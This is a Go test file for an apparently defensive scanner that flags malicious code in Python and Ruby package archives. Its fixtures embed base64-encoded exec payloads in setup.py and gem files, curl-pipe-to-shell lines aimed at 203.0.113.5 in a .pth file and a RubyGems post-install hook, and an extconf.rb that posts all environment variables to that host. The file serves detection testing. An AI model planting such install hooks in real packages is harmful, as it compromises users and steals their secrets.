package analysis

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"context"
	"encoding/base64"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"
)

// tarEntry is one member of a test tar: a file, or a link when link is set.
type tarEntry struct {
	name, body, link string
	sym, hard        bool
}

func tarGz(t *testing.T, entries []tarEntry) []byte {
	t.Helper()
	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	tw := tar.NewWriter(gz)
	for _, e := range entries {
		h := &tar.Header{Name: e.name, Mode: 0o644, Size: int64(len(e.body)), Typeflag: tar.TypeReg}
		switch {
		case e.sym:
			h.Typeflag, h.Linkname, h.Size = tar.TypeSymlink, e.link, 0
		case e.hard:
			h.Typeflag, h.Linkname, h.Size = tar.TypeLink, e.link, 0
		}
		if err := tw.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		if h.Size > 0 {
			if _, err := tw.Write([]byte(e.body)); err != nil {
				t.Fatal(err)
			}
		}
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := gz.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func files(m map[string]string, prefix string) []tarEntry {
	var names []string
	for k := range m {
		names = append(names, k)
	}
	sort.Strings(names)
	var out []tarEntry
	for _, k := range names {
		out = append(out, tarEntry{name: prefix + k, body: m[k]})
	}
	return out
}

func zipOf(t *testing.T, m map[string]string) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, e := range files(m, "") {
		w, err := zw.Create(e.name)
		if err != nil {
			t.Fatal(err)
		}
		w.Write([]byte(e.body))
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func gemOf(t *testing.T, meta string, data ...[]tarEntry) []byte {
	t.Helper()
	var mbuf bytes.Buffer
	gz := gzip.NewWriter(&mbuf)
	gz.Write([]byte(meta))
	gz.Close()
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	members := []struct {
		name string
		body []byte
	}{{"metadata.gz", mbuf.Bytes()}}
	for _, d := range data {
		members = append(members, struct {
			name string
			body []byte
		}{"data.tar.gz", tarGz(t, d)})
	}
	for _, m := range members {
		tw.WriteHeader(&tar.Header{Name: m.name, Mode: 0o444, Size: int64(len(m.body)), Typeflag: tar.TypeReg})
		tw.Write(m.body)
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

const gemMeta = "--- !ruby/object:Gem::Specification\nname: x\nversion: !ruby/object:Gem::Version\n  version: 1.0.0\nextensions:\n- ext/x/build_native.rb\nfiles:\n- lib/x.rb\n"

// archiveCase is one distribution file and what the analysis must say of it.
type archiveCase struct {
	name, eco, file string
	data            []byte
	want            []want // nil: a legitimate twin, nothing above maxSeverity
	maxSeverity     string
}

func TestArchiveLabelled(t *testing.T) {
	payload := base64.StdEncoding.EncodeToString([]byte("import os; os.system('id')"))
	evilSetup := "import base64\nfrom setuptools import setup\ntry:\n    exec(base64.b64decode('" + payload + "'))\nexcept Exception:\n    pass\nsetup(name='x', version='1.0')\n"
	plainSetup := "from setuptools import setup\nsetup(name='x', version='1.0', py_modules=['x'])\n"
	rbPayload := base64.StdEncoding.EncodeToString([]byte("system('id')"))
	wheelInfo := map[string]string{"x-1.0.dist-info/METADATA": "Name: x\nVersion: 1.0\n", "x-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\n"}
	with := func(m map[string]string, extra map[string]string) map[string]string {
		out := map[string]string{}
		for k, v := range m {
			out[k] = v
		}
		for k, v := range extra {
			out[k] = v
		}
		return out
	}
	cases := []archiveCase{
		{name: "sdist setup.py eval(b64decode)", eco: "PyPI", file: "x-1.0.tar.gz",
			data: tarGz(t, files(map[string]string{"setup.py": evilSetup, "PKG-INFO": "Name: x\n"}, "x-1.0/")),
			want: []want{{RuleEvalDecode, High, "setup.py:4:"}}},
		{name: "sdist plain", eco: "PyPI", file: "x-1.0.tar.gz",
			data: tarGz(t, files(map[string]string{"setup.py": plainSetup, "x.py": "VALUE = 1\n"}, "x-1.0/"))},
		{name: "sdist setup.py a symlink to the payload", eco: "PyPI", file: "x-1.0.tar.gz",
			data: tarGz(t, []tarEntry{{name: "x-1.0/data/blob.txt", body: evilSetup}, {name: "x-1.0/setup.py", link: "data/blob.txt", sym: true}}),
			want: []want{{RuleEvalDecode, High, "setup.py:4:"}}},
		{name: "sdist setup.py a hard link to the payload", eco: "PyPI", file: "x-1.0.tar.gz",
			data: tarGz(t, []tarEntry{{name: "x-1.0/notes.txt", body: evilSetup}, {name: "x-1.0/setup.py", link: "x-1.0/notes.txt", hard: true}}),
			want: []want{{RuleEvalDecode, High, "setup.py:4:"}}},
		{name: "sdist duplicate setup.py: the last one is unpacked", eco: "PyPI", file: "x-1.0.tar.gz",
			data: tarGz(t, []tarEntry{{name: "x-1.0/setup.py", body: plainSetup}, {name: "x-1.0/setup.py", body: evilSetup}}),
			want: []want{{RuleEvalDecode, High, "setup.py:4:"}}},
		{name: "sdist in-tree backend", eco: "PyPI", file: "x-1.0.zip",
			data: zipOf(t, map[string]string{
				"x-1.0/pyproject.toml":         "[build-system]\nrequires = []\nbuild-backend = \"backend.impl\"\nbackend-path = [\"_build\"]\n",
				"x-1.0/_build/backend/impl.py": "import zlib, base64\nexec(zlib.decompress(base64.b64decode(b'eJwrzs9NVcjMK8gvKlFIzs8rSc0rAQA7OgZq')))\n",
			}),
			want: []want{{RuleEvalDecode, High, "_build/backend/impl.py:2:"}}},
		{name: "sdist names outside the package are dropped", eco: "PyPI", file: "x-1.0.tar.gz",
			data: tarGz(t, []tarEntry{{name: "../../setup.py", body: evilSetup}, {name: "/etc/setup.py", body: evilSetup}, {name: "x-1.0/setup.py", body: plainSetup}})},
		{name: "wheel .pth with code", eco: "PyPI", file: "x-1.0-py3-none-any.whl",
			data: zipOf(t, with(wheelInfo, map[string]string{"x/__init__.py": "", "x_boot.pth": "import os; os.system('curl -s http://203.0.113.5/x | sh')\n"})),
			want: []want{{RulePthFile, High, "x_boot.pth:1:"}}},
		{name: "wheel .pth with paths only", eco: "PyPI", file: "x-1.0-py3-none-any.whl",
			data: zipOf(t, with(wheelInfo, map[string]string{"x/__init__.py": "VALUE = 1\n", "x.pth": "x_extra\n"}))},
		{name: "wheel load-time payload", eco: "PyPI", file: "x-1.0-py3-none-any.whl",
			data: zipOf(t, with(wheelInfo, map[string]string{"x/__init__.py": "import base64\nexec(base64.b64decode('" + payload + "'))\n"})),
			want: []want{{RuleEvalDecode, High, "x/__init__.py:2:"}}},
		{name: "gem extension named in the metadata", eco: "RubyGems", file: "x-1.0.0.gem",
			data: gemOf(t, gemMeta, files(map[string]string{"ext/x/build_native.rb": "require 'base64'\nbegin\n  eval(Base64.decode64('" + rbPayload + "'))\nrescue StandardError\nend\n", "lib/x.rb": "module X; end\n"}, "")),
			want: []want{{RuleEvalDecode, High, "ext/x/build_native.rb:3:"}}},
		{name: "gem extconf.rb", eco: "RubyGems", file: "x-1.0.0.gem",
			data: gemOf(t, "extensions: []\n", files(map[string]string{"ext/x/extconf.rb": "require 'net/http'\nbegin\n  Net::HTTP.post(URI('http://203.0.113.5/c'), ENV.to_h.to_s)\nrescue\nend\n"}, "")),
			want: []want{{RuleEnvExfil, High, "ext/x/extconf.rb:3:"}}},
		{name: "gem lib payload", eco: "RubyGems", file: "x-1.0.0.gem",
			data: gemOf(t, "extensions: []\n", files(map[string]string{"lib/x.rb": "require 'base64'\nmodule X; end\neval(Base64.decode64('" + rbPayload + "'))\n"}, "")),
			want: []want{{RuleEvalDecode, High, "lib/x.rb:3:"}}},
		{name: "gem rubygems_plugin.rb", eco: "RubyGems", file: "x-1.0.0.gem",
			data: gemOf(t, "extensions: []\n", files(map[string]string{"lib/rubygems_plugin.rb": "Gem.post_install do |i|\n  system(\"curl -s http://203.0.113.5/x | sh\")\nend\n"}, "")),
			want: []want{{RuleDownloadExec, High, "lib/rubygems_plugin.rb:2:"}}},
		{name: "gem with a second, clean data.tar.gz (RubyGems installs the first)", eco: "RubyGems", file: "x-1.0.0.gem",
			data: gemOf(t, "extensions: []\n",
				files(map[string]string{"lib/x.rb": "require 'base64'\nmodule X; end\neval(Base64.decode64('" + rbPayload + "'))\n"}, ""),
				files(map[string]string{"lib/x.rb": "module X; end\n"}, "")),
			want: []want{{RuleEvalDecode, High, "lib/x.rb:3:"}}},
		{name: "gem plain with an extension", eco: "RubyGems", file: "x-1.0.0.gem",
			data: gemOf(t, gemMeta, files(map[string]string{"ext/x/build_native.rb": "require 'mkmf'\nhave_header('zlib.h')\ncreate_makefile('x/x')\n", "lib/x.rb": "require 'x/x'\nmodule X; end\n"}, ""))},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			dir := t.TempDir()
			if err := os.WriteFile(filepath.Join(dir, c.file), c.data, 0o644); err != nil {
				t.Fatal(err)
			}
			fs, err := archiveIn(context.Background(), Package{c.eco, "x", "1.0"}, dir, c.file)
			if err != nil {
				t.Fatal(err)
			}
			for _, w := range c.want {
				ok := false
				for _, f := range fs {
					if f.Rule == w.rule && f.Severity == w.severity {
						for _, e := range f.Evidence {
							ok = ok || strings.Contains(e, w.evidence)
						}
					}
				}
				if !ok {
					t.Errorf("want %s %s with evidence %q; got %s", w.severity, w.rule, w.evidence, dump(fs))
				}
			}
			if c.want == nil {
				for _, f := range fs {
					if sevRank(f.Severity) > sevRank(c.maxSeverity) {
						t.Errorf("legitimate: %s %s: %s %v", f.Severity, f.Rule, f.Summary, f.Evidence)
					}
				}
			}
		})
	}
}

// TestArchiveRefusals: a symlink in the download dir is not followed; what is
// not a distribution is an error, not a clean result.
func TestArchiveRefusals(t *testing.T) {
	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, "x-1.0.tar.gz"), tarGz(t, files(map[string]string{"setup.py": "pass\n"}, "x-1.0/")), 0o644)
	os.Symlink("x-1.0.tar.gz", filepath.Join(dir, "y-1.0.tar.gz"))
	os.WriteFile(filepath.Join(dir, "x-1.0.exe"), []byte("MZ"), 0o644)
	os.WriteFile(filepath.Join(dir, "z-1.0.tar.gz"), []byte("not gzip"), 0o644)
	for _, n := range []string{"y-1.0.tar.gz", "x-1.0.exe", "z-1.0.tar.gz", "../x-1.0.tar.gz"} {
		if _, err := archiveIn(context.Background(), Package{"PyPI", "x", "1.0"}, dir, n); err == nil {
			t.Errorf("%s: no error", n)
		}
	}
	if _, err := archiveIn(context.Background(), Package{"PyPI", "x", "1.0"}, dir, "x-1.0.tar.gz"); err != nil {
		t.Errorf("x-1.0.tar.gz: %v", err)
	}
}

// TestArchiveOversized: setup.py past the package's read budget is reported
// unread (OVERSIZED), not silently passed.
func TestArchiveOversized(t *testing.T) {
	old := maxTotalBytes
	maxTotalBytes = 1 << 20
	defer func() { maxTotalBytes = old }()
	pad := strings.Repeat("# padding\n", 120<<10) // 1.2 MiB of Python, read before setup.py
	data := tarGz(t, []tarEntry{{name: "x-1.0/aaa/pad.py", body: pad}, {name: "x-1.0/setup.py", body: "import os\n"}})
	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, "x-1.0.tar.gz"), data, 0o644)
	fs, err := archiveIn(context.Background(), Package{"PyPI", "x", "1.0"}, dir, "x-1.0.tar.gz")
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range fs {
		if f.Rule == RuleOversized {
			return
		}
	}
	t.Errorf("no %s: %s", RuleOversized, dump(fs))
}

// TestArchiveRealPackagesNoHigh reads, as archives, the real wheels and gems this
// machine holds (pip's and setuptools' wheels of Debian and of each pyenv
// interpreter, the gems in RubyGems' caches and in the Go module cache's test
// data) and requires that none gets a high finding.
func TestArchiveRealPackagesNoHigh(t *testing.T) {
	if testing.Short() {
		t.Skip("reads every wheel and gem on the machine")
	}
	home, _ := os.UserHomeDir()
	var found []string
	for _, g := range []string{
		"/usr/share/python-wheels/*.whl",
		filepath.Join(home, ".pyenv/versions/*/lib/python*/ensurepip/_bundled/*.whl"),
		filepath.Join(home, ".pyenv/versions/*/lib/python*/test/*.whl"),
		filepath.Join(home, ".pyenv/versions/*/lib/python*/test/wheeldata/*.whl"),
		filepath.Join(home, ".cache/pip/wheels/*/*/*/*/*.whl"),
		"/var/lib/gems/*/cache/*.gem",
		"/usr/lib/ruby/gems/*/cache/*.gem",
		filepath.Join(home, "go/pkg/mod/github.com/google/osv-scalibr@*/extractor/filesystem/language/ruby/gem/testdata/*-*.gem"),
		filepath.Join(home, "go/pkg/mod/github.com/google/osv-scalibr@*/extractor/filesystem/language/python/wheelegg/testdata/*.whl"),
		filepath.Join(home, "go/pkg/mod/github.com/google/osv-scalibr@*/clients/resolution/testdata/*.whl"),
	} {
		m, _ := filepath.Glob(g)
		found = append(found, m...)
	}
	if len(found) == 0 {
		t.Skip("no wheels or gems on this machine")
	}
	read := 0
	for _, p := range found {
		eco := "PyPI"
		if strings.HasSuffix(p, ".gem") {
			eco = "RubyGems"
		}
		name := filepath.Base(p)
		fs, err := archiveIn(context.Background(), Package{eco, name, ""}, filepath.Dir(p), name)
		if err != nil {
			t.Logf("%s: %v", p, err) // osv-scalibr's deliberately corrupt gems
			continue
		}
		read++
		for _, f := range fs {
			msg := name + ": " + f.Severity + " " + f.Rule + ": " + f.Summary + "\n\t" + strings.Join(f.Evidence, "\n\t")
			if f.Severity == High {
				t.Error(msg)
			} else {
				t.Log(msg)
			}
		}
	}
	t.Logf("%d of %d archives read", read, len(found))
}
